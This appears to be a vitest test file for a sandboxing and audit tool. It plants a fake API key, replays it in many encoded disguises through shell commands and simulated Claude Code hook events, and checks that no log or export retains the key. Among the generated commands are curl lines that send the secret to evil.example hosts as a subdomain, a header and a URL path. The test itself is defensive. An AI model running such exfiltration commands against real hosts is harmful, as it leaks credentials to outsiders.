// A whole session in which somebody says a secret in every disguise: as commands, names of files, hosts, headers, tool calls, results and prompts.
// Nothing that is kept of it holds the secret: not the log, its blobs and vault, not the ledger, not what is remembered beside them (AUD-4).
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { userInfo } from "node:os";
import { join } from "node:path";
import { expect, it } from "vitest";
import { LeakSearch } from "#core/leak";
import { unpack } from "#egress";
import { DISGUISES } from "../support/disguises.ts";
import { launcher } from "../support/installation.ts";
import { needs } from "../support/needs.ts";
import { tmp } from "../support/tmp.ts";

const SECRET = "zq83Jd0aLx92mWqPz71xKv";
const holds = (text: string | Buffer): boolean =>
  new LeakSearch([{ name: "s", value: Buffer.from(SECRET) }], unpack).request().look(Buffer.from(text), true).kind !==
  "clean";

it("says a secret in every disguise and leaves none of them on record", { timeout: 400_000 }, (context) => {
  needs(context, "userns", "bubblewrap", "overlay", "helper", "git");
  const folder = join(tmp(), "shop");
  mkdirSync(folder);
  execFileSync("git", ["init", "-q", folder]);
  writeFileSync(join(folder, ".env"), `API_KEY=${SECRET}\n`);
  const acts = Object.values(DISGUISES).flatMap((disguise, n) => {
    const said = disguise(SECRET);
    return actsOf(typeof said === "string" ? said : said.toString("latin1"), n, folder);
  });
  writeFileSync(join(folder, "all.sh"), acts.join("\n"));
  const state = join(folder, "../state");
  const env = { PATH: process.env["PATH"], HOME: userInfo().homedir, XDG_STATE_HOME: state };
  const ringfence = (...args: readonly string[]): string =>
    spawnSync(launcher, args, { cwd: folder, encoding: "utf8", env, maxBuffer: 1 << 28 }).stdout;
  ringfence("run", "--quiet", "--", "sh", "all.sh");

  // The control: the commands did run, and their records name what stood there.
  const shown = ringfence("log", "show", "last", "--json");
  expect(shown.split("[.env:API_KEY]").length).toBeGreaterThan(5 * Object.keys(DISGUISES).length);
  expect(holds(acts.join("\n"))).toBe(true);

  const { records } = JSON.parse(shown) as { records: readonly { actor?: unknown; data: unknown }[] };
  expect(records.filter(({ actor, data }) => holds(JSON.stringify([actor, data])))).toEqual([]);
  for (const file of filesOf(join(state, "ringfence/log"))) {
    const lines = /\.jsonl$/.test(file) ? readFileSync(file, "utf8").split("\n") : [readFileSync(file)];
    expect(lines.filter(holds), file).toEqual([]);
  }
  expect(holds(ringfence("log", "export", "last", "--format", "ocsf"))).toBe(false);
});

/** What a shell and a hook can do with a text. */
function actsOf(said: string, n: number, folder: string): readonly string[] {
  const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
  const name = said.replaceAll("/", "_").slice(0, 200);
  const event = { session_id: "x", transcript_path: "/tmp/t", cwd: folder, permission_mode: "default" };
  const hooks = [
    { hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command: `echo ${said}` }, tool_use_id: `t${n}` },
    {
      hook_event_name: "PostToolUse",
      tool_name: "Bash",
      tool_response: { stdout: `it is ${said}` },
      tool_use_id: `t${n}`,
    },
    { hook_event_name: "UserPromptSubmit", prompt: `use ${said} please` },
  ].map((each, at) => {
    writeFileSync(join(folder, `hook-${n}-${at}.json`), JSON.stringify({ ...event, ...each }));
    return `/run/ringfence/ringfence-helper hook claude-code < hook-${n}-${at}.json >/dev/null 2>&1`;
  });
  if (said.includes("\0")) return hooks;
  return [
    `/bin/echo a ${quoted(said)} b >/dev/null`,
    `/bin/sh -c ${quoted(`: ${said}`)} >/dev/null 2>&1`,
    ...(Buffer.byteLength(name) < 240 ? [`touch -- /tmp/${quoted(name)} ./${quoted(name)} 2>/dev/null`] : []),
    ...(/^[a-zA-Z0-9.-]{1,60}$/.test(said) ? [`curl -s -m 2 http://${said}.evil.example/ >/dev/null`] : []),
    ...(/^[\x20-\x7e]*$/.test(said)
      ? [
          `curl -s -m 2 -H ${quoted(`X-A: ${said}`)} ${quoted(`http://api.evil.example/${encodeURIComponent(said)}`)} >/dev/null`,
        ]
      : []),
    ...hooks,
  ];
}

function filesOf(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}
